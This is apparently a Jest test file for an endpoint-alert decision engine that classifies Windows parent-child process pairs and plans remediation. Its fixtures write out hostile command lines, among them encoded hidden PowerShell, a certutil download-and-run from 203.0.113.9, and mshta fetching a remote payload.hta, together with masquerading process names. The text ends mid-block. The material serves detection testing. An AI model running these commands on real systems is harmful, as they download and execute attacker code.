/**
 * The decision engine on realistic parent → child pairs: verdict, the reasons that carry it, and
 * the remediation plan (which side is acted on, and why a step is skipped).
 */
import type { CanonicalAlert } from '../../common/alert';
import type { Decision, DecisionPolicy, PlanAction } from '../../common/decision';
import { decide, processTreeFor } from '../../workflows/decision';
import {
  alertOf,
  allowlisted,
  BOB,
  denylisted,
  enrich,
  EXCEL,
  EXPLORER,
  inMalwareBazaar,
  MS_CORPORATION,
  MS_WINDOWS,
  OUTLOOK,
  policyOf,
  POWERSHELL,
  proc,
  SYS32,
  SYSTEM,
  vt,
  vtClean,
  vtNotFound,
  WORD,
  type EnrichmentSpec,
} from './builders';

const ENCODED = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA';
const CONTOSO = 'Contoso Ltd';

/** `['terminate-child']` runs; `['quarantine-parent', /signed by/]` is skipped with a reason matching. */
type ExpectedStep = [PlanAction] | [PlanAction, RegExp];

interface Case {
  name: string;
  alert: CanonicalAlert;
  /** Omitted: reputation off for both files. `null`: decide without enrichment. */
  enrichment?: EnrichmentSpec | null;
  policy?: DecisionPolicy;
  verdict: Decision['verdict'];
  confidence?: Decision['confidence'];
  /** Reason codes that must carry positive weight. */
  indicators?: string[];
  /** Reason codes that must be present with negative (exculpatory) weight. */
  exculpatory?: string[];
  /** Reason codes that must not be present at all. */
  absent?: string[];
  plan?: ExpectedStep[];
}

const TAIL_BOB: ExpectedStep[] = [['fetch-persistence'], ['logoff-user']];

const cases: Case[] = [
  // ---- Office applications (Sigma "Suspicious Microsoft Office Child Process") ----
  {
    name: 'WINWORD → powershell -NoP -W Hidden -Enc: malicious on behaviour alone; Word terminated, not quarantined',
    alert: alertOf(
      proc(4312, WORD, MS_CORPORATION),
      proc(6120, POWERSHELL, MS_WINDOWS, { commandLine: `powershell.exe -NoP -W Hidden -Enc ${ENCODED}` }),
    ),
    verdict: 'malicious',
    indicators: ['office-spawned-shell', 'suspicious-command-line'],
    plan: [
      ['quarantine-parent', /signed by Microsoft Corporation/],
      ['terminate-parent'],
      ['terminate-child'],
      ...TAIL_BOB,
    ],
  },
  {
    name: 'WINWORD → powershell -enc with both files known clean: a clean hash does not excuse the behaviour',
    alert: alertOf(
      proc(4312, WORD, MS_CORPORATION),
      proc(6120, POWERSHELL, MS_WINDOWS, { commandLine: `powershell -nop -w hidden -e ${ENCODED}` }),
    ),
    enrichment: { parentReputation: [vtClean], childReputation: [vtClean] },
    verdict: 'malicious',
    confidence: 'high',
    indicators: ['office-spawned-shell', 'suspicious-command-line'],
    exculpatory: [],
  },
  {
    name: 'EXCEL → cmd /c whoami: an Office shell without a payload is suspicious (an analyst looks)',
    alert: alertOf(
      proc(5000, EXCEL, MS_CORPORATION),
      proc(5010, `${SYS32}\\cmd.exe`, MS_WINDOWS, { commandLine: 'cmd.exe /c whoami' }),
    ),
    enrichment: { parentReputation: [vtClean], childReputation: [vtClean] },
    verdict: 'suspicious',
    indicators: ['office-spawned-shell'],
    absent: ['suspicious-command-line'],
    plan: [
      ['quarantine-parent', /signed by Microsoft Corporation/],
      ['terminate-parent'],
      ['terminate-child'],
      ...TAIL_BOB,
    ],
  },
  {
    name: 'EXCEL → cmd running a certutil download: malicious',
    alert: alertOf(
      proc(5000, EXCEL, MS_CORPORATION),
      proc(5010, `${SYS32}\\cmd.exe`, MS_WINDOWS, {
        commandLine:
          'cmd.exe /c certutil.exe -urlcache -split -f http://203.0.113.9/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe',
      }),
    ),
    verdict: 'malicious',
    indicators: ['office-spawned-shell', 'suspicious-command-line'],
  },
  {
    name: 'OUTLOOK → mshta fetching a script from a URL: malicious',
    alert: alertOf(
      proc(3000, OUTLOOK, MS_CORPORATION),
      proc(3010, `${SYS32}\\mshta.exe`, MS_WINDOWS, { commandLine: 'mshta.exe https://203.0.113.9/payload.hta' }),
    ),
    verdict: 'malicious',
    indicators: ['office-spawned-shell', 'suspicious-command-line'],
  },
  {
    name: 'WINWORD → cmd.exe spelled with a Cyrillic "с": still a shell to the Office rule, and a masquerade',
    alert: alertOf(
      proc(4312, WORD, MS_CORPORATION),
      proc(6121, 'C:\\Users\\bob\\AppData\\Local\\Temp\\\u0441md.exe', 'unsigned', {
        commandLine: 'сmd.exe /c start x',
      }),
    ),
    verdict: 'malicious',
    indicators: ['office-spawned-shell', 'look-alike-name', 'unsigned-in-user-folder'],
    plan: [
      ['quarantine-parent', /signed by Microsoft Corporation/],
      ['terminate-parent'],
      ['terminate-child'],
      ['quarantine-child'],
      ...TAIL_BOB,
    ],
  },
  {
    name: 'WINWORD → unsigned invoice.exe from Temp that 45 engines flag: both sides acted on, the dropper quarantined',
    alert: alertOf(
      proc(4312, WORD, MS_CORPORATION),
      proc(6120, 'C:\\Users\\bob\\AppData\\Local\\Temp\\invoice.exe', 'unsigned'),
    ),
    enrichment: { parentReputation: [vtClean], childReputation: [vt(45, 2, 72, 'trojan.generic')] },
    verdict: 'malicious',
    confidence: 'high',
    indicators: ['vt-malicious', 'unsigned-in-user-folder', 'office-spawned-user-binary'],
    plan: [
      ['quarantine-parent', /signed by Microsoft Corporation/],
      ['terminate-parent'],
      ['terminate-child'],
      ['quarantine-child'],
      ...TAIL_BOB,
    ],
  },
  {
    name: 'WINWORD (signature unknown, as in a Sysmon alert) → cmd -enc: Word is still terminated only, never quarantined',
    alert: alertOf(
      proc(4312, WORD),
      proc(6120, `${SYS32}\\cmd.exe`, undefined, { commandLine: `cmd /c powershell -enc ${ENCODED}` }),
    ),
    verdict: 'malicious',
    plan: [['quarantine-parent', /only opened the document/], ['terminate-parent'], ['terminate-child'], ...TAIL_BOB],
  },

  // ---- system names: location anomalies, look-alikes, expected parents ----
  {
    name: 'svchost.exe running from C:\\Users\\Public, started by cmd: malicious, the fake svchost quarantined',
    alert: alertOf(
      proc(5128, `${SYS32}\\cmd.exe`, MS_WINDOWS, {
        commandLine: 'cmd.exe /c C:\\Users\\Public\\svchost.exe -k netsvcs',
      }),
      proc(7720, 'C:\\Users\\Public\\svchost.exe', 'unsigned', {
        commandLine: 'C:\\Users\\Public\\svchost.exe -k netsvcs',
      }),
    ),
    verdict: 'malicious',
    indicators: ['system-name-wrong-location', 'unexpected-parent', 'unsigned-in-user-folder'],
    plan: [['terminate-child'], ['quarantine-child'], ...TAIL_BOB],
  },
  {
    name: 'lѕass.exe with a Cyrillic "ѕ" in C:\\Windows\\Temp: a look-alike, not a protected lsass, so it is acted on',
    alert: alertOf(
      proc(900, `${SYS32}\\cmd.exe`, MS_WINDOWS),
      proc(666, 'C:\\Windows\\Temp\\l\u0455ass.exe', 'unsigned'),
    ),
    verdict: 'malicious',
    indicators: ['look-alike-name', 'unsigned-in-user-folder'],
    plan: [['terminate-child'], ['quarantine-child'], ...TAIL_BOB],
  },
  {
    name: 'Isass.exe (capital I for l) in System32, signed by nobody: a look-alike',
    alert: alertOf(proc(640, `${SYS32}\\wininit.exe`, MS_WINDOWS), proc(668, `${SYS32}\\Isass.exe`, 'unsigned')),
    enrichment: { parentReputation: [vtClean], childReputation: [vtNotFound] },
    // wininit.exe starts lsass.exe, never an "Isass.exe": the pair is an attack, not only the name.
    verdict: 'malicious',
    indicators: ['look-alike-name', 'unexpected-child-of-system-process'],
    plan: [
      ['terminate-parent', /critical Windows process.*acting on the child/],
      ['terminate-child'],
      ['quarantine-child'],
      ...TAIL_BOB,
    ],
  },
  {
    name: 'svchost.exe with an invisible zero-width space in its name: a look-alike, reported by code point',
    alert: alertOf(
      proc(700, `${SYS32}\\services.exe`, MS_WINDOWS),
      proc(1210, `${SYS32}\\svc\u200bhost.exe`, 'unsigned'),
      SYSTEM,
    ),
    enrichment: { parentReputation: [vtClean], childReputation: [vtNotFound] },
    // A look-alike of a system binary's name is a deliberate masquerade: malicious on its own.
    verdict: 'malicious',
    indicators: ['look-alike-name'],
  },
  {
    name: 'the genuine lsass.exe started by cmd.exe: an unexpected parent, but lsass itself is never terminated',
    alert: alertOf(proc(900, `${SYS32}\\cmd.exe`, MS_WINDOWS), proc(700, `${SYS32}\\lsass.exe`, MS_WINDOWS), SYSTEM),
    enrichment: { parentReputation: [vtClean], childReputation: [vtClean] },
    verdict: 'suspicious',
    indicators: ['unexpected-parent'],
    plan: [['terminate-child', /critical Windows process/], ['fetch-persistence'], ['logoff-user', /service account/]],
  },
  {
    name: 'services.exe → svchost.exe, Microsoft-signed in System32, known clean: benign with no plan',
    alert: alertOf(
      proc(700, `${SYS32}\\services.exe`, MS_WINDOWS),
      proc(1200, `${SYS32}\\svchost.exe`, MS_WINDOWS, { commandLine: 'svchost.exe -k netsvcs -p' }),
      SYSTEM,
    ),
    enrichment: { parentReputation: [vtClean], childReputation: [vtClean] },
    verdict: 'benign',
    confidence: 'high',
    exculpatory: ['expected-parent', 'trusted-signature', 'reputation-clean'],
    plan: [],
  },
  {
    name: 'SERVICES.EXE → SVCHOST.EXE in upper case: names compare case-insensitively',
    alert: alertOf(
      proc(700, 'C:\\WINDOWS\\SYSTEM32\\SERVICES.EXE', MS_WINDOWS),
      proc(1200, 'C:\\WINDOWS\\SYSTEM32\\SVCHOST.EXE', MS_WINDOWS),
      SYSTEM,
    ),
    enrichment: { parentReputation: [vtClean], childReputation: [vtClean] },
    verdict: 'benign',
    exculpatory: ['expected-parent'],
    absent: ['system-name-wrong-location', 'look-alike-name', 'unexpected-parent'],
  },
  {
    name: 'services.exe → svchost.exe with no reputation source: never benign, suspicious with low confidence',
    alert: alertOf(
      proc(700, `${SYS32}\\services.exe`, MS_WINDOWS),
      proc(1200, `${SYS32}\\svchost.exe`, MS_WINDOWS),
      SYSTEM,
    ),
    verdict: 'suspicious',
    confidence: 'low',
    indicators: ['not-conclusively-benign'],
    plan: [
      ['terminate-parent', /critical Windows process/],
      // A genuine svchost hosts services: stopping it (and its descendants) harms the host.
      ['terminate-child', /shared host/],
      ['fetch-persistence'],
      ['logoff-user', /NT AUTHORITY\\SYSTEM is a service account/],
    ],
  },

  {
    name: 'a genuine-path svchost.exe started by Word is a hollowed copy: it is stopped, not protected',
    alert: alertOf(proc(4312, WORD, MS_CORPORATION), proc(6120, `${SYS32}\\svchost.exe`, MS_WINDOWS)),
    verdict: 'malicious',
    plan: [
      ['quarantine-parent', /signed by Microsoft Corporation/],
      ['terminate-parent'],
      ['terminate-child'],
      ['fetch-persistence'],
      ['logoff-user'],
    ],
  },
  {
    name: 'a system name in a device path is still the genuine one: explorer.exe is never terminated',
    alert: alertOf(
      proc(2100, '\\Device\\HarddiskVolume3\\Windows\\explorer.exe', MS_WINDOWS),
      proc(2200, 'C:\\Users\\bob\\AppData\\Local\\Temp\\dropper.exe', 'unsigned'),
    ),
    verdict: 'suspicious',
    plan: [
      ['terminate-parent', /shared host/],
      ['terminate-child'],
      ['quarantine-child'],
      ['fetch-persistence'],
      ['logoff-user'],
    ],
  },
  {
    name: 'a child known only by its PID (no image path, no start time) is never terminated',
    alert: {
      ...alertOf(
        proc(4312, WORD, MS_CORPORATION),
        proc(6120, `${SYS32}\\WindowsPowerShell\\v1.0\\powershell.exe`, MS_WINDOWS),
      ),
      child: {
        pid: 6120,
        name: 'powershell.exe',
        commandLine: 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
      },
    },
    verdict: 'malicious',
    plan: [
      ['quarantine-parent', /signed by Microsoft Corporation/],
      ['terminate-parent'],
      ['terminate-child', /cannot be identified beyond its PID/],
      ['fetch-persistence'],
      ['logoff-user'],
    ],
  },

  {
    name: 'a child with a start time but no image path is never terminated (the host refuses a PID without its image)',
    alert: {
      ...alertOf(
        proc(4312, WORD, MS_CORPORATION),
        proc(6120, `${SYS32}\\WindowsPowerShell\\v1.0\\powershell.exe`, MS_WINDOWS),
      ),
      child: {
        pid: 6120,
        name: 'powershell.exe',
        startTime: '2024-05-01T10:00:00Z',
        commandLine: 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
      },
    },
    verdict: 'malicious',
    plan: [
      ['quarantine-parent', /signed by Microsoft Corporation/],
      ['terminate-parent'],
      ['terminate-child', /cannot be identified beyond its PID/],
      ['fetch-persistence'],
      ['logoff-user'],
    ],
  },

  // ---- reputation ----
  {
    name: 'explorer.exe → notepad.exe, both Microsoft-signed and known clean: benign',
    alert: alertOf(
      proc(2100, EXPLORER, MS_WINDOWS),
      proc(2200, `${SYS32}\\notepad.exe`, MS_WINDOWS, { commandLine: 'notepad.exe C:\\Users\\bob\\todo.txt' }),
    ),
    enrichment: { parentReputation: [vtClean], childReputation: [vtClean] },
    verdict: 'benign',
    confidence: 'high',
    plan: [],
  },
  {
    name: 'explorer.exe → notepad.exe that VirusTotal has never seen: suspicious, not benign',
    alert: alertOf(proc(2100, EXPLORER, MS_WINDOWS), proc(2200, `${SYS32}\\notepad.exe`, MS_WINDOWS)),
    enrichment: { parentReputation: [vtClean], childReputation: [vtNotFound] },
    verdict: 'suspicious',
    confidence: 'low',
    indicators: ['not-conclusively-benign'],
    plan: [['terminate-parent', /shared host.*acting on the child/], ['terminate-child'], ...TAIL_BOB],
  },
  {
    name: 'explorer.exe → notepad.exe when the reputation lookup failed: suspicious, not benign',
    alert: alertOf(proc(2100, EXPLORER, MS_WINDOWS), proc(2200, `${SYS32}\\notepad.exe`, MS_WINDOWS)),
    enrichment: { parentReputation: null, childReputation: null },
    verdict: 'suspicious',
    confidence: 'low',
  },
  {
    name: 'explorer.exe → notepad.exe decided without any enrichment: suspicious, not benign',
    alert: alertOf(proc(2100, EXPLORER, MS_WINDOWS), proc(2200, `${SYS32}\\notepad.exe`, MS_WINDOWS)),
    enrichment: null,
    verdict: 'suspicious',
    confidence: 'low',
  },
  {
    name: 'a vendor tool that VirusTotal flags at exactly the malicious threshold (5): malicious',
    alert: alertOf(proc(2100, EXPLORER, MS_WINDOWS), proc(2300, 'C:\\Program Files\\Vendor\\setup.exe', 'Vendor Inc')),
    enrichment: { parentReputation: [vtClean], childReputation: [vt(5, 0, 70)] },
    verdict: 'malicious',
    confidence: 'high',
    indicators: ['vt-malicious'],
    plan: [['terminate-parent', /shared host/], ['terminate-child'], ['quarantine-child'], ...TAIL_BOB],
  },
  {
    name: 'the same tool at 4 engines: below the malicious threshold, above the suspicious one',
    alert: alertOf(proc(2100, EXPLORER, MS_WINDOWS), proc(2300, 'C:\\Program Files\\Vendor\\setup.exe', 'Vendor Inc')),
    enrichment: { parentReputation: [vtClean], childReputation: [vt(4, 0, 70)] },
    verdict: 'suspicious',
    indicators: ['vt-suspicious'],
    absent: ['vt-malicious'],
  },
  {
    name: 'a policy with a malicious threshold of 10: 7 engines is only suspicious',
    alert: alertOf(proc(2100, EXPLORER, MS_WINDOWS), proc(2300, 'C:\\Program Files\\Vendor\\setup.exe', 'Vendor Inc')),
    enrichment: { parentReputation: [vtClean], childReputation: [vt(7, 0, 70)] },
    policy: policyOf({ maliciousEngineThreshold: 10, suspiciousEngineThreshold: 5 }),
    verdict: 'suspicious',
    indicators: ['vt-suspicious'],
  },
  {
    name: 'one engine of 72 (below the suspicious threshold) on a signed vendor tool: still benign',
    alert: alertOf(proc(2100, EXPLORER, MS_WINDOWS), proc(2300, 'C:\\Program Files\\Vendor\\setup.exe', 'Vendor Inc')),
    enrichment: { parentReputation: [vtClean], childReputation: [vt(1)] },
    verdict: 'benign',
    exculpatory: ['reputation-clean'],
  },
  {
    name: 'a hash on the local deny list: malicious whatever else is known',
    alert: alertOf(proc(2100, EXPLORER, MS_WINDOWS), proc(2300, 'C:\\Program Files\\Vendor\\tool.exe', 'Vendor Inc')),
    enrichment: { parentReputation: [vtClean], childReputation: [denylisted, vtClean] },
    verdict: 'malicious',
    confidence: 'high',
    indicators: ['denylisted'],
    plan: [['terminate-parent', /shared host/], ['terminate-child'], ['quarantine-child'], ...TAIL_BOB],
  },
  {
    name: 'a hash on both lists: the deny list wins',
    alert: alertOf(proc(2100, EXPLORER, MS_WINDOWS), proc(2300, 'C:\\Program Files\\Vendor\\tool.exe', 'Vendor Inc')),
    enrichment: { parentReputation: [vtClean], childReputation: [denylisted, allowlisted] },
    verdict: 'malicious',
    indicators: ['denylisted'],
  },
  {
    name: 'a sample in MalwareBazaar: malicious',
    alert: alertOf(proc(2100, EXPLORER, MS_WINDOWS), proc(2400, 'C:\\Users\\bob\\Downloads\\scan.exe', 'unsigned')),
    enrichment: { parentReputation: [vtClean], childReputation: [inMalwareBazaar] },
    verdict: 'malicious',
    indicators: ['malwarebazaar-known', 'unsigned-in-user-folder'],
  },
  {
    name: 'an allow-listed, unsigned in-house tool in C:\\Users\\Public: the allow list vouches for it (benign)',
    alert: alertOf(proc(2100, EXPLORER, MS_WINDOWS), proc(2500, 'C:\\Users\\Public\\tools\\sync.exe', 'unsigned')),
    enrichment: { parentReputation: [vtClean], childReputation: [allowlisted] },
    verdict: 'benign',
    exculpatory: ['allowlisted'],
    plan: [],
  },
  {
    name: 'an allow-listed file that 30 engines flag: contradictory evidence goes to an analyst',
    alert: alertOf(proc(2100, EXPLORER, MS_WINDOWS), proc(2500, 'C:\\Users\\Public\\tools\\sync.exe', 'unsigned')),
    enrichment: { parentReputation: [vtClean], childReputation: [allowlisted, vt(30)] },
    verdict: 'suspicious',
    confidence: 'low',
    indicators: ['vt-malicious'],
    exculpatory: ['allowlisted'],
  },
  {
    name: 'an allow-listed child that Word launched with an encoded command: the allow list does not excuse behaviour',
    alert: alertOf(
      proc(4312, WORD, MS_CORPORATION),
      proc(6120, POWERSHELL, MS_WINDOWS, { commandLine: `powershell -enc ${ENCODED}` }),
    ),
    enrichment: { parentReputation: [vtClean], childReputation: [allowlisted] },
    // The encoded command decodes to `IEX (New-Object Net.WebClient)`: download and execute.
    verdict: 'malicious',
    indicators: ['office-spawned-shell', 'suspicious-command-line', 'download-and-execute'],
    exculpatory: ['allowlisted'],
  },

  // ---- signatures and where files live ----
  {
    name: 'explorer → unsigned updater.exe in AppData that nobody knows: suspicious; explorer spared, the updater quarantined',
    alert: alertOf(
      proc(2100, EXPLORER, MS_WINDOWS),
      proc(2600, 'C:\\Users\\bob\\AppData\\Roaming\\Updater\\updater.exe', 'unsigned'),
    ),
    enrichment: { parentReputation: [vtClean], childReputation: [vtNotFound] },
    verdict: 'suspicious',
    indicators: ['unsigned-in-user-folder'],
    plan: [
      ['terminate-parent', /explorer\.exe \(PID 2100\) is a shared host/],
      ['terminate-child'],
      ['quarantine-child'],
      ...TAIL_BOB,
    ],
  },
  {
    name: 'a child whose signature does not verify: an indicator on its own',
    alert: alertOf(proc(2100, EXPLORER, MS_WINDOWS), proc(2700, 'C:\\Program Files\\Vendor\\agent.exe', 'invalid')),
    enrichment: { parentReputation: [vtClean], childReputation: [vtClean] },
    verdict: 'suspicious',
    indicators: ['invalid-signature'],
    plan: [['terminate-parent', /shared host/], ['terminate-child'], ['quarantine-child'], ...TAIL_BOB],
  },
  {
    name: 'an unsigned helper.exe in Downloads starting cmd.exe: the parent is the offender and is quarantined',
    alert: alertOf(
      proc(7000, 'C:\\Users\\bob\\Downloads\\helper.exe', 'unsigned'),
      proc(7100, `${SYS32}\\cmd.exe`, MS_WINDOWS, { commandLine: 'cmd.exe /c whoami' }),
    ),
    verdict: 'suspicious',
    indicators: ['unsigned-in-user-folder'],
    plan: [['quarantine-parent'], ['terminate-child'], ...TAIL_BOB],
  },
  {
    name: 'a parent that 40 engines flag: malicious, and the parent is quarantined',
    alert: alertOf(
      proc(7000, 'C:\\ProgramData\\svc\\agent.exe', 'unsigned'),
      proc(7100, `${SYS32}\\rundll32.exe`, MS_WINDOWS),
    ),
    enrichment: { parentReputation: [vt(40)], childReputation: [vtClean] },
    verdict: 'malicious',
    indicators: ['vt-malicious'],
    plan: [['quarantine-parent'], ['terminate-child'], ...TAIL_BOB],
  },
  {
    name: 'a parent named svchost.exe outside System32: not the shared host, so it is quarantined',
    alert: alertOf(
      proc(7200, 'C:\\Users\\Public\\Libraries\\svchost.exe', 'unsigned'),
      proc(7300, `${SYS32}\\rundll32.exe`, MS_WINDOWS, { commandLine: 'rundll32.exe C:\\Users\\Public\\x.dll,Start' }),
    ),
    verdict: 'malicious',
    indicators: ['system-name-wrong-location', 'unsigned-in-user-folder'],
    plan: [['quarantine-parent'], ['terminate-child'], ...TAIL_BOB],
  },
  {
    name: 'PowerShell copied to Temp and renamed update.exe, still Microsoft-signed: terminated, never quarantined',
    alert: alertOf(
      proc(2100, EXPLORER, MS_WINDOWS),
      proc(2800, 'C:\\Users\\bob\\AppData\\Local\\Temp\\update.exe', MS_WINDOWS, {
        originalFileName: 'PowerShell.EXE',
      }),
    ),
    enrichment: { parentReputation: [vtClean], childReputation: [vtClean] },
    verdict: 'suspicious',
    indicators: ['renamed-binary'],
    plan: [
      ['terminate-parent', /shared host/],
      ['terminate-child'],
      ['quarantine-child', /signed by Microsoft Windows/],
      ...TAIL_BOB,
    ],
  },
  {
    name: 'a Microsoft-signed rundll32 in System32 that engines flag: an OS binary is terminated, never quarantined',
    alert: alertOf(proc(2100, EXPLORER, MS_WINDOWS), proc(2900, `${SYS32}\\rundll32.exe`, MS_WINDOWS)),
    enrichment: { parentReputation: [vtClean], childReputation: [vt(9)] },
    verdict: 'malicious',
    plan: [
      ['terminate-parent', /shared host/],
      ['terminate-child'],
      ['quarantine-child', /^OS binary signed by Microsoft Windows/],
      ...TAIL_BOB,
    ],
  },
  {
    name: 'powershell.exe outside System32 and unsigned: the host never quarantines a PowerShell image, so terminate only',
    alert: alertOf(proc(2100, EXPLORER, MS_WINDOWS), proc(3100, 'C:\\Users\\Public\\powershell.exe', 'unsigned')),
    verdict: 'malicious',
    indicators: ['system-name-wrong-location', 'unsigned-in-user-folder'],
    plan: [
      ['terminate-parent', /shared host/],
      ['terminate-child'],
      ['quarantine-child', /PowerShell host/],
      ...TAIL_BOB,
    ],
  },
  {
    name: 'a trusted publisher (policy) that engines flag: terminated, not quarantined',
    alert: alertOf(proc(2100, EXPLORER, MS_WINDOWS), proc(3200, 'C:\\ProgramData\\Contoso\\agent-update.exe', CONTOSO)),
    enrichment: { parentReputation: [vtClean], childReputation: [vt(6)] },
    policy: policyOf({ trustedPublishers: [CONTOSO] }),
    verdict: 'malicious',
    plan: [
      ['terminate-parent', /shared host/],
      ['terminate-child'],
      ['quarantine-child', /trusted publisher Contoso Ltd/],
      ...TAIL_BOB,
    ],
  },
  {
    name: 'the same file without the trusted-publisher policy: quarantined',
    alert: alertOf(proc(2100, EXPLORER, MS_WINDOWS), proc(3200, 'C:\\ProgramData\\Contoso\\agent-update.exe', CONTOSO)),
    enrichment: { parentReputation: [vtClean], childReputation: [vt(6)] },
    verdict: 'malicious',
    plan: [['terminate-parent', /shared host/], ['terminate-child'], ['quarantine-child'], ...TAIL_BOB],
  },
  {
    name: 'a trusted publisher matched by the CN of a full subject name, and credited when nothing points at it',
    alert: alertOf(
      proc(2100, EXPLORER, MS_WINDOWS),
      proc(3200, 'C:\\Program Files\\Contoso\\agent.exe', 'CN=Contoso Ltd, O=Contoso Ltd, L=Leeds, C=GB'),
    ),
    enrichment: { parentReputation: [vtClean], childReputation: [vtClean] },
    policy: policyOf({ trustedPublishers: [CONTOSO] }),
    verdict: 'benign',
    exculpatory: ['trusted-signature'],
  },

  // ---- who runs it, and who started it ----
  {
    name: 'lsass.exe (critical) starting cmd.exe as SYSTEM: the child is acted on, lsass and SYSTEM are left alone',
    alert: alertOf(
      proc(700, `${SYS32}\\lsass.exe`, MS_WINDOWS),
      proc(7400, `${SYS32}\\cmd.exe`, MS_WINDOWS, { commandLine: 'cmd.exe /c whoami /priv' }),
      SYSTEM,
    ),
    enrichment: { parentReputation: [vtClean], childReputation: [vtClean] },
    // lsass.exe never starts a shell: one that does runs injected code, whatever the files' reputation.
    verdict: 'malicious',
    confidence: 'high',
    indicators: ['critical-process-spawned-shell', 'service-account-shell'],
    plan: [
      [
        'terminate-parent',
        /lsass\.exe \(PID 700\) is a critical Windows process: never terminated; acting on the child/,
      ],
      ['terminate-child'],
      ['fetch-persistence'],
      ['logoff-user', /service account/],
    ],
  },
  {
    name: 'svchost.exe (shared host) → powershell -enc (download and execute) as SYSTEM: the child is acted on',
    alert: alertOf(
      proc(1300, `${SYS32}\\svchost.exe`, MS_WINDOWS),
      proc(7500, POWERSHELL, MS_WINDOWS, { commandLine: `powershell.exe -ExecutionPolicy Bypass -enc ${ENCODED}` }),
      SYSTEM,
    ),
    enrichment: { parentReputation: [vtClean], childReputation: [vtClean] },
    // Decoded, the command downloads and runs code in memory.
    verdict: 'malicious',
    indicators: ['suspicious-command-line', 'download-and-execute'],
    absent: ['service-account-shell'],
    plan: [
      ['terminate-parent', /shared host/],
      ['terminate-child'],
      ['fetch-persistence'],
      ['logoff-user', /service account/],
    ],
  },
  {
    name: 'w3wp.exe → cmd.exe /c whoami as NETWORK SERVICE (a web shell): the service account is not logged off',
    alert: alertOf(
      proc(4400, `${SYS32}\\inetsrv\\w3wp.exe`, MS_WINDOWS),
      proc(4410, `${SYS32}\\cmd.exe`, MS_WINDOWS, { commandLine: 'cmd.exe /c whoami' }),
      { name: 'NETWORK SERVICE', domain: 'NT AUTHORITY' },
    ),
    enrichment: { parentReputation: [vtClean], childReputation: [vtClean] },
    // `whoami` through a web server's shell: a web shell's first command.
    verdict: 'malicious',
    indicators: ['server-app-spawned-shell', 'service-account-shell', 'web-shell-discovery'],
    plan: [
      ['terminate-child'],
      ['fetch-persistence'],
      ['logoff-user', /NT AUTHORITY\\NETWORK SERVICE is a service account: never logged off/],
    ],
  },
  {
    name: 'SYSTEM running an unsigned binary from C:\\Windows\\Temp: malicious-looking service persistence',
    alert: alertOf(
      proc(700, `${SYS32}\\services.exe`, MS_WINDOWS),
      proc(7600, 'C:\\Windows\\Temp\\svcupd.exe', 'unsigned'),
      SYSTEM,
    ),
    enrichment: { parentReputation: [vtClean], childReputation: [vtNotFound] },
    verdict: 'suspicious',
    indicators: ['service-account-user-folder', 'unsigned-in-user-folder'],
    plan: [
      ['terminate-parent', /critical/],
      ['terminate-child'],
      ['quarantine-child'],
      ['fetch-persistence'],
      ['logoff-user', /service account/],
    ],
  },
  {
    name: 'a weak indicator between two allow-listed files is not cleared: suspicious, and the reasons still add up',
    alert: alertOf(
      proc(3300, 'C:\\Program Files\\Contoso\\agent.exe', CONTOSO),
      proc(3310, `${SYS32}\\cmd.exe`, MS_WINDOWS, { commandLine: 'cmd.exe /c ver' }),
      SYSTEM,
    ),
    enrichment: { parentReputation: [allowlisted, vtClean], childReputation: [allowlisted, vtClean] },
    policy: policyOf({ trustedPublishers: [CONTOSO] }),
    verdict: 'suspicious',
    indicators: ['service-account-shell', 'not-conclusively-benign'],
    exculpatory: ['allowlisted'],
  },
  {
    name: 'an alert with no user: the log-off step is skipped, saying why',
    alert: alertOf(
      proc(2100, EXPLORER, MS_WINDOWS),
      proc(2600, 'C:\\Users\\bob\\AppData\\Roaming\\x\\x.exe', 'unsigned'),
      null,
    ),
    verdict: 'suspicious',
    plan: [
      ['terminate-parent', /shared host/],
      ['terminate-child'],
      ['quarantine-child'],
      ['fetch-persistence'],
      ['logoff-user', /no user/],
    ],
  },
  {
    name: 'a process named constructor.exe does not reach the object prototype',
    alert: alertOf(proc(2100, EXPLORER, MS_WINDOWS), proc(2650, 'C:\\Program Files\\x\\constructor.exe', 'Vendor Inc')),
    enrichment: { parentReputation: [vtClean], childReputation: [vtClean] },
    verdict: 'benign',
    absent: ['unexpected-parent', 'expected-parent'],
  },
];

function run(c: Case): Decision {
  const policy = c.policy ?? policyOf();
  const enrichment = c.enrichment === null ? null : enrich(c.alert, { ...(c.enrichment ?? {}), policy });
  return decide({ alert: c.alert, enrichment, policy });
}

describe('decide', () => {
  it('has a realistic table of at least 30 pairs', () => {
    expect(cases.length).toBeGreaterThanOrEqual(30);
  });

  it.each(cases.map((c) => [c.name, c] as const))('%s', (_name, c) => {
    const decision = run(c);
    const weights = new Map<string, number[]>();
    for (const r of decision.reasons) weights.set(r.code, [...(weights.get(r.code) ?? []), r.weight]);

    expect(decision.verdict).toBe(c.verdict);
    if (c.confidence) expect(decision.confidence).toBe(c.confidence);
    for (const code of c.indicators ?? []) {
      expect({ code, positive: (weights.get(code) ?? []).some((w) => w > 0) }).toEqual({ code, positive: true });
    }
    for (const code of c.exculpatory ?? []) {
      expect({ code, negative: (weights.get(code) ?? []).some((w) => w < 0) }).toEqual({ code, negative: true });
    }
    if (c.exculpatory?.length === 0) expect(decision.reasons.filter((r) => r.weight < 0)).toEqual([]);
    for (const code of c.absent ?? []) expect({ code, present: weights.has(code) }).toEqual({ code, present: false });

    if (c.plan) {
      expect(decision.plan.map((s) => s.action)).toEqual(c.plan.map(([action]) => action));
      c.plan.forEach(([action, skipped], index) => {
        const step = decision.plan[index];
        if (skipped)
          expect({ action, skipped: step?.skipped }).toEqual({ action, skipped: expect.stringMatching(skipped) });
        else expect({ action, skipped: step?.skipped }).toEqual({ action, skipped: undefined });
      });
    }
  });
});

describe('decision invariants over the whole table', () => {
  const decisions = cases.map((c) => ({ c, decision: run(c) }));

  it('the score is the sum of the reasons, within 0–100, and falls in the verdict’s band', () => {
    for (const { c, decision } of decisions) {
      const sum = decision.reasons.reduce((total, r) => total + r.weight, 0);
      expect({ name: c.name, score: decision.score }).toEqual({ name: c.name, score: Math.max(0, Math.min(100, sum)) });
      const band = decision.score >= 70 ? 'malicious' : decision.score >= 30 ? 'suspicious' : 'benign';
      expect({ name: c.name, band }).toEqual({ name: c.name, band: decision.verdict });
    }
  });

